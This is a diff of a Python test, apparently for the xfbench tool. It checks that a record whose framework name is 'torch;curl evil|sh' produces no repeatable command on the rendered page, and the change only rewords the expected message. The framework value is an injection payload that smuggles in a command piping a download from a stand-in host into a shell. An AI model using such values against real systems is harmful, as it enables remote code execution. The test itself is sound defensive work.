@@ -279,7 +279,7 @@ def test_a_name_unfit_for_a_shell_has_no_command(opened, board):
     records, certificates = board
     bad = vary_record(records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001)
     shown = opened([bad], certificates)
-    assert "no command of xfbench does this again" in shown.get_by_role("article").inner_text()
+    assert "No xfbench command repeats this" in shown.get_by_role("article").inner_text()
     assert "evil|sh" not in " ".join(shown.locator("code").all_text_contents())
 
 
